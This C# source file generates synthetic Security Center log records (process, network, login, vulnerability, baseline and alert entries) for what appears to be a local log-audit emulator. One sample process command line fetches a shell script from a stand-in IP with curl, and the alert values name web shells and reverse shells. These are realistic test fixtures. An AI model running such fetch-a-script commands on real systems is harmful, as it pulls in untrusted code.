using System.Globalization;

namespace LogAudit.LocalCloud.Products.Logs;

/// <summary>Records of Security Center, in the field names of its first dictionary.</summary>
/// <remarks>Fields: sas reference, section 8; where the page has none (client, CSPM, RASP, file detection, network block) only what all records share and a few plausible ones.</remarks>
internal static class SasRecords
{
    /// <summary>Ids of the switches that are still delivered; each is the topic of its records.</summary>
    public static readonly IReadOnlyList<string> Ids =
    [
        "aegis-log-process",
        "aegis-log-network",
        "aegis-log-login",
        "aegis-log-crack",
        "aegis-snapshot-process",
        "aegis-snapshot-host",
        "aegis-snapshot-port",
        "aegis-log-dns-query",
        "aegis-log-client",
        "sas-vul-log",
        "sas-hc-log",
        "sas-security-log",
        "sas-cspm-log",
        "sas-rasp-log",
        "sas-filedetect-log",
        "sas-net-block",
    ];

    /// <summary>What the log of a switch holds, in a word or two. Source: sas reference, section 2.</summary>
    public static string KindOf(string id) =>
        id switch
        {
            "aegis-snapshot-process" => "snapshot-process",
            "aegis-snapshot-host" => "snapshot-account",
            "aegis-snapshot-port" => "snapshot-port",
            "aegis-log-dns-query" => "host-dns",
            "sas-vul-log" => "vulnerability",
            "sas-hc-log" => "baseline",
            "sas-security-log" => "alert",
            "sas-cspm-log" => "cspm",
            "sas-rasp-log" => "rasp",
            "sas-filedetect-log" => "file-detection",
            "sas-net-block" => "network-block",
            _ => id["aegis-log-".Length..],
        };

    /// <summary>One record of a kind. The marker, in small letters, is the end of <c>uuid</c>, the id of the host's agent.</summary>
    public static LogRecord Of(string id, DateTimeOffset at, string marker, Dice dice)
    {
        var lower = marker.ToLowerInvariant();
        return new LogRecord(
            id,
            at,
            [new("uuid", $"inet-{lower}"), new("ip", dice.PrivateIp()), .. Own(id, at, dice).Select(Pair)],
            lower
        );
    }

    private static (string Name, string Value)[] Own(string id, DateTimeOffset at, Dice dice) =>
        id switch
        {
            "aegis-log-process" => Process(dice),
            "aegis-log-network" => Connection(dice),
            "aegis-log-login" => Login(dice, count: dice.Number(1, 4)),
            "aegis-log-crack" => Login(dice, count: dice.Number(5, 400)),
            "aegis-snapshot-process" => RunningProcess(at, dice),
            "aegis-snapshot-host" => Account(dice),
            "aegis-snapshot-port" => Port(dice),
            "aegis-log-dns-query" =>
            [
                ("query_name", dice.Of("mirrors.example.com", "api.example.net", "pool.example.org")),
                ("query_type", dice.Of("A", "AAAA", "TXT")),
            ],
            "sas-vul-log" => Vulnerability(dice),
            "sas-hc-log" => Baseline(dice),
            "sas-security-log" => Alert(dice),
            "aegis-log-client" => [("status", dice.Of("online", "offline"))],
            _ => [("level", dice.Of("high", "medium", "low")), ("status", dice.Of("1", "7", "10"))],
        };

    private static (string, string)[] Process(Dice dice)
    {
        var (name, path, line) = dice.Of(
            ("bash", "/usr/bin/bash", "bash -c \"systemctl restart web\""),
            ("curl", "/usr/bin/curl", "curl -s http://198.51.100.9/x.sh"),
            ("python3", "/usr/bin/python3.11", "python3 /opt/report.py --day 2026-03-02")
        );
        return
        [
            ("cmdline", line),
            ("username", dice.Of("root", "app", "deploy")),
            ("uid", dice.Of("0", "1000", "1001")),
            ("pid", Text(dice.Number(300, 40_000))),
            ("filename", name),
            ("filepath", path),
            ("groupname", dice.Of("root", "app")),
            ("ppid", Text(dice.Number(1, 300))),
            ("pfilename", "systemd"),
            ("pfilepath", "/usr/lib/systemd/systemd"),
        ];
    }

    private static (string, string)[] Connection(Dice dice) =>
        [
            ("src_ip", dice.PrivateIp()),
            ("src_port", Text(dice.Number(1024, 65535))),
            ("dst_ip", dice.PublicIp()),
            ("dst_port", dice.Of("443", "53", "3306", "6379")),
            ("proc_name", dice.Of("nginx", "java", "redis-server")),
            ("proc_path", dice.Of("/usr/sbin/nginx", "/usr/bin/java", "/usr/bin/redis-server")),
            ("proto", dice.Of("tcp", "udp")),
            ("in_out", dice.Of("in", "out")),
            ("status", dice.Of("1", "5", "5", "10")),
        ];

    private static (string, string)[] Login(Dice dice, int count)
    {
        var windows = dice.Once(4);
        return
        [
            ("warn_ip", dice.PublicIp()),
            ("warn_port", windows ? "3389" : "22"),
            ("warn_type", windows ? "RDPLOGIN" : "SSHLOGIN"),
            ("warn_user", windows ? "administrator" : dice.Of("root", "deploy", "oracle")),
            ("warn_count", Text(count)),
        ];
    }

    private static (string, string)[] RunningProcess(DateTimeOffset at, Dice dice) =>
        [
            ("cmdline", "/usr/sbin/sshd -D"),
            ("pid", Text(dice.Number(300, 40_000))),
            ("name", "sshd"),
            ("path", "/usr/sbin/sshd"),
            ("md5", dice.Hex(32)),
            ("pname", "systemd"),
            ("start_time", at.AddDays(-3).ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture)),
            ("user", "root"),
            ("uid", "0"),
        ];

    private static (string, string)[] Account(Dice dice)
    {
        var (user, uid) = dice.Of(("root", "0"), ("app", "1000"), ("backup", "1004"));
        return [("user", user), ("uid", uid), ("groups", dice.Of("root", "app,wheel"))];
    }

    private static (string, string)[] Port(Dice dice) =>
        [
            ("proto", "tcp"),
            ("src_ip", "0.0.0.0"),
            ("src_port", dice.Of("22", "80", "443", "3306")),
            ("pid", Text(dice.Number(300, 40_000))),
            ("proc_name", dice.Of("sshd", "nginx", "mysqld")),
        ];

    private static (string, string)[] Vulnerability(Dice dice) =>
        [
            ("name", dice.Of("alilinux2:2.1903:ALINUX2-SA-2021:0002", "debian:11:CVE-2024-3094")),
            ("alias_name", dice.Of("openssl security update", "xz-utils backdoor")),
            ("op", dice.Of("new", "verify", "fix")),
            ("status", dice.Of("1", "6", "7")),
            ("tag", "oval"),
            ("type", dice.Of("sys", "cve", "cms", "EMG")),
        ];

    private static (string, string)[] Baseline(Dice dice) =>
        [
            ("level", dice.Of("high", "medium", "low")),
            ("op", dice.Of("new", "verify")),
            ("risk_name", dice.Of("Password policy", "SSH root login")),
            ("status", dice.Of("1", "3", "7")),
            ("sub_type_name", "hc_login_policy"),
            ("sub_type_alias", "Login policy"),
            ("type_name", "hc_cis"),
            ("type_alias", "CIS benchmark"),
            ("check_item", "Ensure that PermitRootLogin is no"),
            ("check_level", dice.Of("high", "medium")),
            ("check_type", "SSH"),
        ];

    private static (string, string)[] Alert(Dice dice) =>
        [
            ("data_source", dice.Of("aegis_suspicious_event", "aegis_suspicious_file_v2", "aegis_login_log")),
            ("level", dice.Of("serious", "suspicious", "remind")),
            ("name", dice.Of("Abnormal login", "WebShell", "Reverse shell")),
            ("op", dice.Of("new", "dealing")),
            ("status", dice.Of("1", "10")),
            ("detail", $$"""{"loginSourceIp":"{{dice.PublicIp()}}","loginTimes":{{dice.Number(1, 9)}}}"""),
            ("unique_info", dice.Hex(32)),
        ];

    private static KeyValuePair<string, string> Pair((string Name, string Value) field) => new(field.Name, field.Value);

    private static string Text(int number) => number.ToString(CultureInfo.InvariantCulture);
}
